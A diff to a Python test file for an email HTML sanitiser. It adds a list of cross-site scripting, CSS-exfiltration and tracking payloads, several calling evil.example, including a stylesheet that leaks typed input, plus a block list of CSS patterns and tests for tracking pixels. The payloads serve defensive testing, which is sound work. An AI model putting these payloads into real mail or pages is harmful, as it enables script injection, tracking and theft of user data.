@@ -6,8 +6,10 @@ from hypothesis import strategies as st
 from selectolax.lexbor import LexborHTMLParser
 
 from ally.channels.mail.html_text import text_of
+from ally.channels.mail.inert import is_loadable
 from ally.channels.mail.parsed import Unreadable
-from ally.channels.mail.sanitise import ALLOWED, HARMLESS_STYLES, sanitise
+from ally.channels.mail.sanitise import ALLOWED, sanitise
+from ally.channels.mail.styles import HARMLESS_STYLES, harmless_sheet
 
 # By class: what has got through mail programs and sanitisers.
 PAYLOADS = [
@@ -124,7 +126,65 @@ PAYLOADS = [
     "<p/" + "x" * 5000,
 ]  # fmt: skip
 
+# What has been found in mail programs, by the names of the classes that it belongs to.
+FOUND_ELSEWHERE = {
+    "an SVG in an element of the web": "<p><svg><style><img src=x onerror=alert(1)></style></svg>",
+    "an SVG that animates an address": (
+        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>'
+    ),
+    "an SVG that animates with begin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "markup that later processing would wake": '<p title="x</p><img src=x onerror=alert(1)>">x',
+    "a link reference in the text": "[x]: javascript:x\n<a href=' javascript:alert(1)'>x</a>",
+    "a character data section": "<div><![CDATA[><img src=x onerror=alert(1)>]]></div>",
+    "a namespace within a namespace": (
+        "<math><annotation-xml encoding='text/html'><svg><desc><img src=x onerror=alert(1)>"
+    ),
+    "an image of a filter": '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
+    "a background of the body": '<body background="https://evil.example/x">x',
+    "a picture animated into a mail": (
+        '<svg><image><animate attributeName="href" values="https://evil.example/x"/></image></svg>'
+    ),
+    "a function of an address": '<svg><rect fill="url(https://evil.example/x#y)"/></svg>x',
+    "a variable of a style": (
+        '<p style="--u:url(https://evil.example/x);background:var(--u)">x</p>'
+        "<style>:root{--u:url(https://evil.example/x)} p{background:var(--u)}</style>"
+    ),
+    "a stylesheet by a link": '<link rel=stylesheet href="https://127.0.0.1.nip.io/x.css">x',
+    "a stylesheet that imports": (
+        "<style>@import 'https://evil.example/x.css'; @charset 'x'; p{color:red}</style>"
+    ),
+    "a stylesheet that reads what is typed": (
+        "<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=a>"
+    ),
+    "a stylesheet with escapes": (
+        r"<style>p{background:\75\72\6c(https://evil.example/x);b\61 ckground:u\rl(x)}</style>"
+    ),
+    "a stylesheet that ends itself": (
+        "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>"
+        '<div data-sheet="p{color:red}</style><script>alert(1)</script>">x</div>'
+    ),
+    "a stylesheet with a namespace": "<svg><style>p{background:url(//evil.example)}</style></svg>",
+    "a cover over the page": (
+        "<style>p{position:fixed;inset:0;z-index:9;opacity:0}</style><p>Approve</p>"
+    ),
+    "a font from elsewhere": (
+        "<style>@font-face{font-family:x;src:url(https://evil.example/f)} p{font:12px x}</style>"
+    ),
+    "names that shadow a page's own": (
+        '<form id=htmx name=body><input name=csrf_token id=getElementById></form><a id="config">x'
+    ),
+    "our own marks, forged": (
+        '<img data-remote="javascript:alert(1)"><img data-cid="x&quot; onerror=alert(1)">'
+        '<img data-embedded="data:image/svg+xml;base64,PHN2Zz4=">'
+        '<div data-sheet="@import url(//evil.example)">x</div>'
+        '<p data-remote="https://evil.example/x" class="fold">x</p>'
+    ),
+}
+
 LINK = re.compile(r"(https?://[^/\\\s]|mailto:)", re.IGNORECASE)
+
+
+UNSEEN_IN_SHEETS = ["url(", "@import", "var(", "<", "\\", "[", "::", "position:", "@font", "//"]
 
 
 def residue(html):
@@ -144,6 +204,12 @@ def residue(html):
                 found.append(f"{node.tag} {name}")
             if name == "href" and not LINK.match(value or ""):
                 found.append(f"href {value}")
+            if name == "data-remote" and not is_loadable(value or ""):
+                found.append(f"image {value}")
+            if name == "data-sheet":
+                found += [sign for sign in UNSEEN_IN_SHEETS if sign in (value or "").lower()]
+            if name == "class" and not all(one.startswith("m-") for one in value.split()):
+                found.append(f"class {value}")
             if name == "style":
                 found += [p for p in properties(value) if p not in HARMLESS_STYLES]
                 found += [sign for sign in ("url", "(", "\\", "@", "/*") if is_in(sign, value)]
@@ -158,7 +224,7 @@ def is_in(sign, style):
     return sign in re.sub(r"(rgb|hsl)a?\(", "", style.lower())
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", [*PAYLOADS, *FOUND_ELSEWHERE.values()])
 def test_nothing_harmful_is_left(payload):
     cleaned = sanitise(payload).html
 
@@ -171,6 +237,10 @@ def test_the_check_itself_sees_what_it_must():
     assert residue("<a href=javascript:x>") == ["href javascript:x"]
     assert residue("<p style='position:fixed'>") == ["position"]
     assert residue("<svg><g></g></svg>") == ["svg", "g"]
+    assert residue('<img src="https://a.example/x">') == ["img src", "img src"]
+    assert residue('<img data-remote="http://127.0.0.1/x">') == ["image http://127.0.0.1/x"]
+    assert residue('<div data-sheet="p{background:url(x)}">') == ["url("]
+    assert residue('<p class="fold">') == ["class fold"]
 
 
 @given(st.lists(st.sampled_from(PAYLOADS), min_size=1, max_size=4), st.randoms())
@@ -248,6 +318,67 @@ def test_images_are_counted_and_their_addresses_put_where_nothing_loads_them():
         '<img data-remote="HTTPS://t.example/1.gif"><img data-remote="https://t.example/2.gif">'
         '<img data-cid="part1@example.com"><img>'
     )
+
+
+@pytest.mark.parametrize(
+    ("image", "counted"),
+    [
+        ('<img src="https://t.example/o.gif" width="1" height="1">', (0, 1)),
+        ('<img src="https://t.example/o.gif" style="display: none">', (0, 1)),
+        ('<img src="https://t.example/o.gif" style="width:1px;height:1px">', (0, 1)),
+        ('<img src="https://t.example/o.gif" height="0">', (0, 1)),
+        ('<img src="https://t.example/o.gif" hidden>', (0, 1)),
+        ('<img src="https://t.example/o.gif" width="1">', (1, 0)),
+        ('<img src="https://t.example/line.gif" width="600" height="1">', (1, 0)),
+        ('<img src="https://t.example/logo.gif">', (1, 0)),
+        ('<img src="cid:x" width="1" height="1">', (0, 0)),
+    ],
+)
+def test_images_that_nobody_would_see_are_counted_apart_and_dropped(image, counted):
+    cleaned = sanitise(f"<p>x{image}</p>")
+
+    assert (cleaned.remote_images, cleaned.tracking_images) == counted
+    assert ("<img" in cleaned.html) is (counted != (0, 1))
+
+
+@pytest.mark.parametrize(
+    ("css", "kept"),
+    [
+        ("p { color: red }", "p{color:red}"),
+        (
+            ".a, #b > td, p[title] { width: 50% !important }",
+            ".m-a,.m-id-b > td{width:50%!important}",
+        ),
+        ("html body p, body { margin: 0 }", ".m--body p,.m--body{margin:0}"),
+        (":root { color-scheme: light dark }", ".m--body{color-scheme:light dark}"),
+        ("a:hover, a::after { color: blue }", "a:hover{color:blue}"),
+        ("@media (max-width:600px){.a{width:100%}}", "@media (max-width:600px){.m-a{width:100%}}"),
+        ("@media screen and (x){@import 'x';}", ""),
+        ("p{background:#fff url(x);color:rgb(1,2,3);position:fixed}", "p{color:rgb(1,2,3)}"),
+        ("<!-- p{color:red} -->", "p{color:red}"),
+        ("p{color:red", "p{color:red}"),
+        ("@supports (x:y){p{color:red}} @keyframes x{}", ""),
+        ("(" * 50_000, ""),
+        ("a{" * 50_000, ""),
+    ],
+)
+def test_a_stylesheet_keeps_what_lays_out_its_own_mail(css, kept):
+    assert harmless_sheet(css) == kept
+    assert harmless_sheet(kept) == kept
+
+
+@given(st.text(max_size=300))
+def test_any_text_reads_as_a_stylesheet(css):
+    kept = harmless_sheet(css)
+
+    assert harmless_sheet(kept) == kept
+    assert "<" not in kept
+
+
+def test_a_body_keeps_its_look_when_it_becomes_an_element():
+    made = sanitise('<body bgcolor="#eee" style="margin:0" class="x" onload=x><p>y</p></body>').html
+
+    assert made == '<div class="m--body m-x" style="background-color:#eee;margin:0"><p>y</p></div>'
 
 
 @pytest.mark.parametrize(
